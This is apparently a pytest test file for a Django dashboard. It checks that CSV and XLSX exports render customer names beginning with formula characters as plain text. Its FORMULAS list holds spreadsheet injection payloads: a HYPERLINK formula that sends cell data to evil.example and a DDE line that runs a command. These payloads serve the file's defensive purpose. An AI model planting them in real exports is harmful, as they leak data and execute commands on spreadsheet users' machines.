"""The dashboard's exports: every table opens in both formats, and text that a spreadsheet would
run as a formula (a customer name starting with "=", "+", "-", "@", a tab or a carriage return)
arrives as plain text (issue 11)."""

import csv
import io
from datetime import timedelta

import pytest
from django.urls import reverse
from django.utils import timezone
from openpyxl import load_workbook

from dispatch.models import Deadline, DeadlineState, Team, Ticket
from tests.factories import make_user, open_ticket
from visits.models import Visit

pytestmark = pytest.mark.django_db
URL = reverse("supervision:supervisor")
TABLES = ("overdue", "engineers", "teams", "weekly")
FORMULAS = [
    '=HYPERLINK("http://evil.example/?"&A1,"点此")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1,2)",
    "\t=1+1",
    "\r=1+1",
]
DANGEROUS_START = ("=", "+", "-", "@", "\t", "\r")


@pytest.fixture
def board(dispatcher, supervisor):
    """Overdue promises to customers whose names are formulas, an engineer and a team too."""
    engineer = make_user("engineer", username="eng_formula", first_name="=1+1", last_name="")
    team = Team.objects.create(name="@SUM(9)")
    team.members.add(engineer)
    for name in FORMULAS:
        ticket = open_ticket(dispatcher, customer_name=name)
        Deadline.objects.filter(ticket=ticket).update(
            state=DeadlineState.OVERDUE, overdue_at=timezone.now(), responsible=engineer
        )
    start = timezone.now() - timedelta(days=1)
    Visit.objects.create(
        ticket=ticket,
        engineer=engineer,
        booked_by=dispatcher,
        start=start,
        end=start + timedelta(hours=1),
        status="arrived",
        arrived_at=start - timedelta(minutes=10),
        arrival_punctual=True,
    )
    return supervisor


def is_number(value: str) -> bool:
    try:
        float(value)
    except ValueError:
        return False
    return True


def csv_rows(response) -> list[list[str]]:
    return list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))


def xlsx_sheet(response):
    return load_workbook(io.BytesIO(response.content)).active


@pytest.mark.parametrize("table", TABLES)
def test_every_table_exports_to_csv_and_opens(client, board, table):
    client.force_login(board)
    response = client.get(URL, {"export": "csv", "table": table})
    assert response.status_code == 200
    assert response["Content-Type"].startswith("text/csv")
    assert response["Content-Disposition"].startswith(f'attachment; filename="{table}-')
    rows = csv_rows(response)
    assert len(rows) >= 2, rows
    for row in rows:
        for value in row:
            assert not value.startswith(DANGEROUS_START) or is_number(value), (table, value)


@pytest.mark.parametrize("table", TABLES)
def test_every_table_exports_to_xlsx_and_opens(client, board, table):
    """The overdue table's XLSX used to answer 500: a lazy translation reached openpyxl."""
    client.force_login(board)
    response = client.get(URL, {"export": "xlsx", "table": table})
    assert response.status_code == 200
    sheet = xlsx_sheet(response)
    assert sheet.max_row >= 2
    for row in sheet.iter_rows():
        for cell in row:
            assert cell.data_type != "f", (table, cell.coordinate, cell.value)


def test_a_formula_name_stays_text_the_customer_wrote(client, board):
    """CSV prefixes the apostrophe spreadsheets read as "text"; XLSX keeps the text itself and
    marks the cell as text, so the supervisor reads the name the customer gave."""
    client.force_login(board)
    # As taken: the ticket form strips a leading tab or carriage return.
    names = set(Ticket.objects.values_list("customer_name", flat=True))
    assert len(names) == len(FORMULAS) - 1
    rows = csv_rows(client.get(URL, {"export": "csv", "table": "overdue"}))
    customers = {row[2] for row in rows[1:]}
    assert customers == {"'" + name for name in names}

    sheet = xlsx_sheet(client.get(URL, {"export": "xlsx", "table": "overdue"}))
    cells = [row[2] for row in sheet.iter_rows(min_row=2)]
    assert {c.value for c in cells} == names
    assert all(c.data_type == "s" and c.quotePrefix for c in cells)
    assert sheet["A2"].value  # the deadline's kind, translated: no lazy object in the file
    assert isinstance(sheet["A2"].value, str)
